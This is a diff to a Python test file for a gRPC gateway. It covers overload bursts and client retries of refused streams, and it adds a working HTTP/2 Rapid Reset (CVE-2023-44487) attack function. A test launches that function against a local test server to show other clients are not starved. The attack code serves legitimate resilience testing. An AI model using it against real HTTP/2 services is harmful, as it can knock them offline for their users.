@@ -1,8 +1,8 @@
 """Bursts against `attnserve serve` (tools/burst.py): cheap predictions and 12-megapixel overlays
 mixed, at ten times what the gateway admits at once. Nothing is INTERNAL, the refusals counted
-in the metrics are exactly those the clients saw, and grpc-core refuses no stream of its own
-(RST_STREAM REFUSED_STREAM, which clients see as UNAVAILABLE), even 640 calls at once on one
-connection. A flood of calls cancelled as soon as they start leaves the gateway serving with
+in the metrics are exactly those the clients saw, and nothing else fails, even 640 calls at once
+on one connection beyond those it refuses as not processed (RST_STREAM REFUSED_STREAM, which the
+clients send again). A flood of calls cancelled as soon as they start leaves the gateway serving with
 bounded memory. The sustained-overload tool (tools/overload.py) runs both ways. Latency figures
 are printed, not asserted (docs/overload.md has them)."""
 
@@ -10,25 +10,37 @@ from __future__ import annotations
 
 import asyncio
 import json
+import select
+import socket
+import struct
 import subprocess
 import sys
+import threading
 import time
+from collections import Counter
 from pathlib import Path
 from typing import Any
 
 import grpc
+import h2.config
+import h2.connection
 import pytest
 
+from attnserve.clients import AsyncClient
+from attnserve.clients.retry import REFUSED_STREAM
 from attnserve.demo import serving
+from attnserve.errors import AttnserveError
 from attnserve.settings import Settings
 from attnserve.v1 import attnserve_pb2 as pb
 from attnserve.v1 import attnserve_pb2_grpc as pb_grpc
 
-from .conftest import REPO_ROOT
+from .conftest import REPO_ROOT, grey_png
 
 pytestmark = [pytest.mark.triton, pytest.mark.slow]
 
 SAMPLE = (REPO_ROOT / "docs" / "samples" / "digit.png").read_bytes()
+sys.path.insert(0, str(REPO_ROOT / "tools"))
+import burst as burst_tool  # noqa: E402
 
 
 def burst(*flags: str) -> list[dict[str, Any]]:
@@ -42,12 +54,13 @@ def burst(*flags: str) -> list[dict[str, Any]]:
 
 def check(summary: dict[str, Any]) -> None:
     codes = {code for kind in summary["by_kind"].values() for code in kind["codes"]}
-    assert codes <= {"OK", "RESOURCE_EXHAUSTED"} and summary["internal"] == 0, summary
-    assert not summary["other_errors"], summary
+    assert codes <= {"OK", "RESOURCE_EXHAUSTED", "UNAVAILABLE"} and summary["internal"] == 0, summary
+    # UNAVAILABLE only as grpc-core's refused stream (nothing processed; attnserve's clients retry it)
+    assert all(REFUSED_STREAM in details for details in summary["other_errors"].values()), summary
     assert summary["resource_exhausted_seen"] == summary["rejections_counted"] > 0, summary
     assert summary["by_kind"]["cheap"]["codes"].get("OK", 0) > 0, summary
     assert summary["by_kind"]["heavy"]["codes"].get("OK", 0) > 0, summary
-    assert summary["floor_codes"] == {"NOT_FOUND": summary["calls"]}, summary
+    assert set(summary["floor_codes"]) <= {"NOT_FOUND", "UNAVAILABLE"}, summary  # refused streams too
     assert summary["exit_code"] == 0, summary
 
 
@@ -58,10 +71,35 @@ def test_a_burst_of_ten_times_the_adaptive_capacity_is_refused_cleanly_and_count
     check(summary)
 
 
-def test_640_calls_at_once_on_one_connection_get_no_refused_stream_from_grpc_core() -> None:
+def test_640_calls_at_once_on_one_connection_are_answered_refused_or_refused_streams() -> None:
     (summary,) = burst("--max-in-flight", "64")
     assert summary["calls"] == 640 and not summary["adaptive"]
-    check(summary)  # before: about half were UNAVAILABLE "Received RST_STREAM with error code 7"
+    check(summary)
+
+
+async def client_burst(address: str, calls: int) -> Counter[str]:
+    photo = burst_tool.photo()
+    async with AsyncClient(address, timeout_s=120) as client:
+        await client.predict(SAMPLE)
+
+        async def one(i: int) -> str:
+            try:
+                if i % 4 == 0:
+                    await client.predict(photo, forms=["overlay_png"])
+                else:
+                    await client.predict(SAMPLE, maps=["primary"])
+                return "answered"
+            except AttnserveError as exc:
+                return type(exc).__name__
+
+        return Counter(await asyncio.gather(*(one(i) for i in range(calls))))
+
+
+def test_attnserves_client_sends_refused_streams_again_so_a_640_call_burst_sees_none() -> None:
+    with serving(Settings(), quiet=True) as served:
+        outcomes = asyncio.run(client_burst(served.address, 640))
+    print(dict(outcomes))
+    assert set(outcomes) <= {"answered", "Overloaded"} and outcomes["answered"] > 0, outcomes
 
 
 def rss_mib(pid: int) -> float:
@@ -123,3 +161,76 @@ def test_the_sustained_overload_tool_compares_both_ways_and_loses_no_call() -> N
     assert summary["fixed"]["limit_second_half"] == [64.0, 64.0]
     low, high = summary["adaptive"]["limit_second_half"]
     assert 2 <= low <= high <= 64
+
+
+def rapid_reset(host: str, port: int, stop: threading.Event) -> int:
+    """HTTP/2 rapid reset (CVE-2023-44487) on one socket: a Predict's HEADERS and DATA, then at
+    once RST_STREAM (CANCEL), as fast as the socket takes them, until ``stop``."""
+    sock = socket.create_connection((host, port))
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    conn.initiate_connection()
+    message = pb.PredictRequest(image=grey_png(64, 64)).SerializeToString()
+    body = b"\x00" + struct.pack(">I", len(message)) + message  # a gRPC frame
+    path = "/attnserve.v1.AttentionService/Predict"
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", f"{host}:{port}"),
+               ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
+    sent = 0
+    with sock:
+        while not stop.is_set():
+            wait = 1.0 if conn.outbound_flow_control_window < len(body) else 0.0
+            while select.select([sock], [], [], wait)[0]:  # settings, window updates, answers
+                data = sock.recv(1 << 16)
+                if not data:
+                    return sent
+                conn.receive_data(data)
+                wait = 0.0
+            if conn.outbound_flow_control_window < len(body):
+                continue
+            stream = conn.get_next_available_stream_id()
+            conn.send_headers(stream, headers)
+            conn.send_data(stream, body, end_stream=True)
+            conn.reset_stream(stream, error_code=8)
+            sent += 1
+            if sent % 50 == 0:
+                sock.sendall(conn.data_to_send())
+    return sent
+
+
+async def steady_client(address: str, seconds: float) -> list[tuple[str, float]]:
+    outcomes = []
+    async with AsyncClient(address, timeout_s=5) as client:
+        end = time.perf_counter() + seconds
+        while time.perf_counter() < end:
+            began = time.perf_counter()
+            try:
+                await client.predict(grey_png(64, 64))
+                outcomes.append(("answered", time.perf_counter() - began))
+            except AttnserveError as exc:
+                outcomes.append((type(exc).__name__, time.perf_counter() - began))
+            await asyncio.sleep(0.01)
+    return outcomes
+
+
+def test_an_http2_rapid_reset_does_not_starve_other_clients() -> None:
+    """grpc-core's overload protection stays on for this: with it off, the same attack took the
+    steady client from p50 55 ms to 472 ms, 42 % of its calls CANCELLED, and the gateway +72 MiB."""
+    with serving(Settings(), quiet=True) as served:
+        host, port = served.address.rsplit(":", 1)
+        before = rss_mib(served.pid)
+        stop, sent = threading.Event(), []
+        attacker = threading.Thread(target=lambda: sent.append(rapid_reset(host, int(port), stop)))
+        attacker.start()
+        try:
+            outcomes = asyncio.run(steady_client(served.address, 8.0))
+        finally:
+            stop.set()
+            attacker.join(timeout=30)
+        grown = rss_mib(served.pid) - before
+    answered = sorted(s for kind, s in outcomes if kind == "answered")
+    print(
+        f"{sent} streams opened and reset in 8 s; the steady client: {Counter(k for k, _ in outcomes)}, "
+        f"p50 {answered[len(answered) // 2] * 1e3:.0f} ms; gateway +{grown:.0f} MiB"
+    )
+    assert sent and sent[0] > 10_000  # the attack ran
+    assert {kind for kind, _ in outcomes} == {"answered"} and len(answered) > 20, outcomes
+    assert grown < 100
